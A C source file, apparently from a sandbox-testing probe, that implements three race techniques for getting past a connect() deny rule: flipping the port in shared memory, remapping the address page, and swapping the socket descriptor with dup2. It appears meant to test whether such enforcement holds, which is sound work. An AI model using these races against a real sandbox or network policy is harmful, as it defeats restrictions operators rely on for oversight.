/* Races of connect: one thread calls it, another changes what it was asked for. argv: address and port that are denied, rounds. They win when a
 * socket is connected to the denied port. */
#define _GNU_SOURCE
#include "probe.h"
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>

static atomic_bool stop;
static volatile struct sockaddr_in *asked;
static struct sockaddr_in allowed, denied;
static int listener, number, spare[2];

/* A listener of one's own is always allowed. Whoever comes is let in and forgotten. */
static void *accept_all(void *unused) {
	for (;;) {
		int fd = accept(listener, NULL, NULL);
		if (fd >= 0)
			close(fd);
	}
	return unused;
}

static void *flip_address(void *unused) {
	while (!atomic_load(&stop)) {
		asked->sin_port = denied.sin_port;
		asked->sin_port = allowed.sin_port;
	}
	return unused;
}

/* Another thread's page that comes and goes: whoever reads it twice meets two addresses, or none. */
static void *flip_page(void *unused) {
	struct sockaddr_in *page = (struct sockaddr_in *)(uintptr_t)asked;
	while (!atomic_load(&stop)) {
		munmap(page, 4096);
		mmap(page, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
		memcpy(page, &allowed, sizeof allowed);
		memcpy(page, &denied, sizeof denied);
		sched_yield();
	}
	return unused;
}

/* The number of the socket means a Unix socket, then one that has begun to connect, then a new one. */
static void *flip_descriptor(void *unused) {
	while (!atomic_load(&stop)) {
		dup2(spare[0], number);
		dup2(spare[1], number);
	}
	return unused;
}

static int open_listener(void) {
	socklen_t length = sizeof allowed;
	listener = socket(AF_INET, SOCK_STREAM, 0);
	allowed = (struct sockaddr_in){.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	if (bind(listener, (void *)&allowed, sizeof allowed) != 0 || listen(listener, 128) != 0 ||
	    getsockname(listener, (void *)&allowed, &length) != 0)
		return errno;
	pthread_t thread;
	return pthread_create(&thread, NULL, accept_all, NULL);
}

static int reached(int fd) {
	struct sockaddr_in peer;
	socklen_t length = sizeof peer;
	return getpeername(fd, (void *)&peer, &length) == 0 && peer.sin_family == AF_INET && peer.sin_port == denied.sin_port;
}

static int race(char **argv, void *(*flip)(void *)) {
	const struct linger at_once = {.l_onoff = 1};
	int won = 0;
	denied = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[1]))};
	inet_pton(AF_INET, argv[0], &denied.sin_addr);
	asked = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	number = 100;
	int error = open_listener();
	spare[0] = socket(AF_UNIX, SOCK_STREAM, 0);
	if (error)
		return error;
	memcpy((void *)(uintptr_t)asked, &allowed, sizeof allowed);
	if (flip == flip_descriptor)
		memcpy((void *)(uintptr_t)asked, &denied, sizeof denied);
	pthread_t thread;
	spare[1] = socket(AF_INET, SOCK_STREAM, 0);
	if (pthread_create(&thread, NULL, flip, NULL) != 0)
		return EAGAIN;
	for (long i = atol(argv[2]); i > 0 && !won; i--) {
		int fd = flip == flip_descriptor ? number : socket(AF_INET, SOCK_STREAM, 0);
		setsockopt(fd, SOL_SOCKET, SO_LINGER, &at_once, sizeof at_once);
		syscall(SYS_connect, fd, asked, sizeof allowed);
		won = reached(fd) || (flip == flip_descriptor && reached(spare[1]));
		if (fd != number)
			close(fd);
	}
	atomic_store(&stop, 1);
	pthread_join(thread, NULL);
	return won ? 0 : EACCES;
}

static int by_address(char **argv) {
	return race(argv, flip_address);
}
static int by_page(char **argv) {
	return race(argv, flip_page);
}
static int by_descriptor(char **argv) {
	return race(argv, flip_descriptor);
}

const struct technique connect_techniques[] = {
	{"flip-address", by_address, 3},
	{"flip-page", by_page, 3},
	{"flip-descriptor", by_descriptor, 3},
	{NULL, NULL, 0},
};
